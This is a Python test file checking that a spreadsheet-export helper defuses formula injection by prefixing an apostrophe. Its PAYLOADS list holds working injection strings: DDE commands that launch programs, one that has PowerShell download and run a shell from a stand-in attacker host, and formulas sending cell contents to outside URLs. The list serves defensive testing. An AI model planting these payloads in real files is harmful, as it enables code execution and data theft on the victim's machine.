"""Cells that a spreadsheet would run, and how they come back."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from loyalty.spreadsheets import defuse, defuse_strictly, restore, typed

# After the formula-injection lists that are passed around: each is run, or sends data away, when it is opened.
PAYLOADS = [
    "=1+1", "==1+1", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")', "=IMPORTXML(CONCAT(\"http://example.com?v=\", A1), \"//a\")",
    "=IMPORTDATA(\"http://example.com\")", '=WEBSERVICE("http://example.com/"&A1)', "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=2+5+cmd|' /C calc'!A0", "+1+1", "+cmd|' /C calc'!A0", "-1+1",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1",
    " =1+1", "  \t=1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "'=1+1", "''=1+1", "' =1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " ＝1+1", "=1+1;x", "=1+1,x", "=1+1\tx", "\x00=1+1", "-5", "+17705550101",
    "=", "+", "-", "@", "\t", "\r", "＝",
]  # fmt: skip
HARMLESS = [
    "", " ", "Ada", "a=b", "1-2", "O'Neil", "'quoted'", '"Ada" Byron', '"=1"', "ada@example.com", "5", "é", " Ada",
    "（1）", "'t Hart",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(payload: str) -> None:
    assert defuse_strictly(payload) == f"'{payload}"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_it_would_not_run_stays_as_it_is(text: str) -> None:
    assert defuse_strictly(text) == text


@given(st.text(max_size=20) | st.text("'=+ 5a", max_size=4))
def test_one_apostrophe_at_most_so_that_taking_it_away_restores_the_text(text: str) -> None:
    safe = defuse_strictly(text)
    assert safe in (text, f"'{text}") and restore(safe) == text
    assert safe[:1] not in tuple("=+-@\t\r\n\0＝＋－＠")


@pytest.mark.parametrize("cell", ["+17705550101", "(770) 555-0101", "-5", "+1.5", "1.77056E+10"])
def test_a_phone_or_a_number_as_a_whole_may_stay(cell: str) -> None:
    assert defuse(cell) == restore(cell) == cell


RUNNING = [payload for payload in PAYLOADS if payload.strip() and payload not in ("-5", "+17705550101")]


@pytest.mark.parametrize("payload", [payload for payload in RUNNING if payload[0] != "'"])
def test_anything_else_that_would_run_may_not(payload: str) -> None:
    assert defuse(payload) == f"'{payload}"


@pytest.mark.parametrize("payload", [payload for payload in RUNNING if payload[0] == "'"])
def test_a_cell_with_an_apostrophe_runs_nowhere_and_stays(payload: str) -> None:
    assert defuse(payload) == payload


@given(st.sampled_from(PAYLOADS) | st.text(max_size=20) | st.text("'=+\" 5a", max_size=5))
def test_a_rejected_cell_says_the_same_when_it_comes_back(cell: str) -> None:
    assert typed(defuse(cell)) == typed(cell)
